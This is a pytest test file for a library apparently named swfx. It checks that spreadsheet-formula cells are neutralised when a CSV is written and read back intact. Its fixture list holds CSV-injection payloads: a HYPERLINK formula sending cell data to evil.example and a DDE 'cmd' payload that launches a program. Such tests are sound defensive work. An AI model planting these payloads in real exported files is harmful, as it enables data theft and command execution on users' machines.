"""Cells that a spreadsheet would take for formulas: marked when written, as before when read."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from swfx import open_workload
from swfx.base.csv_columns import read_columns
from swfx.base.csv_rows import csv_text, write_csv

NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "'=1",
    "''-x",
    "'tis",
    "-",
    "plain",
    "a=b",
    "",
]
NUMBERS = ["-1", "+1.5", "-0.001", "1e-9", "-2.5E+3", "-.5", "-inf"]


def test_no_cell_is_a_formula_and_all_are_read_as_they_were(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "a.csv", ["name", "n"], [(name, 1) for name in NAMES])

    with path.open(newline="") as file:
        seen = [row[0] for row in csv.reader(file)][1:]
    assert not [cell for cell in seen if cell[:1] in set("=+-@\t\r")]
    assert list(read_columns(str(path)).cells["name"]) == NAMES


def test_numbers_stay_numbers() -> None:
    rows = list(csv.reader(io.StringIO(csv_text(["x"], [[each] for each in [*NUMBERS, -1, -2.5]]))))

    assert [row[0] for row in rows[1:]] == [*NUMBERS, "-1", "-2.5"]


@pytest.mark.parametrize("name", ["=1+1", "@me", "plain"])
def test_names_come_back_from_jobs_csv(tmp_path: Path, name: str) -> None:
    columns = ["job_id", "submission_time", "requested_number_of_resources", "starting_time"]
    row = (1, 0, 1, 0, 9, name)
    write_csv(tmp_path / "jobs.csv", [*columns, "execution_time", "user"], [row])

    jobs = open_workload(f"jobs-csv:{tmp_path / 'jobs.csv'}").workload

    assert jobs.labels.required("user").of_jobs() == [name]
